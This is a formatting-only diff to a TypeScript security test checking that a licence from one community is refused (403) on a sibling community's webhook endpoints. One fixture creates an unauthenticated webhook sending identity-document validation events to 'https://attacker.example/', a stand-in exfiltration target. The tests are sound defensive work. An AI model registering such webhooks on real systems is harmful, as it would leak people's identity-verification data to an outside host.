@@ -101,9 +101,24 @@ describe('security: a community named like another community id reaches nothing 
 
   const webhooks: [string, string, string, unknown?][] = [
     ['fetches the webhooks', 'POST', '/webhooks/fetch', {}],
-    ['publishes an event', 'PUT', '/event/E_IDV_DOCUMENT_VALIDATE', { dvcID: 'kyc', docType: 'dl', status: 'verified' }],
-    ['creates a webhook', 'PUT', '/webhook', { name: 'x', eventNames: ['E_IDV_DOCUMENT_VALIDATE'], api: { type: 'POST', url: 'https://attacker.example/', authType: 'none' }, successCodes: [200] }],
-  ]; // prettier-ignore
+    [
+      'publishes an event',
+      'PUT',
+      '/event/E_IDV_DOCUMENT_VALIDATE',
+      { dvcID: 'kyc', docType: 'dl', status: 'verified' },
+    ],
+    [
+      'creates a webhook',
+      'PUT',
+      '/webhook',
+      {
+        name: 'x',
+        eventNames: ['E_IDV_DOCUMENT_VALIDATE'],
+        api: { type: 'POST', url: 'https://attacker.example/', authType: 'none' },
+        successCodes: [200],
+      },
+    ],
+  ];
   for (const [what, method, path, body] of webhooks) {
     it(`webhooks: the impostor's licence ${what} of a sibling community: 403`, async () => {
       const base = `/tenant/${sibling.tenantId}/community/${sibling.id}`;
